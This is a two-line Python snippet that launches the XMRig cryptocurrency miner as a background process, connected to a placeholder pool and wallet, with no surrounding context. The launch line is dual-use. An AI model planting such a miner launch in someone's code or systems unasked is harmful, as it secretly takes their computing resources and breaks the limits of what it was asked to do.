import subprocess

subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"])
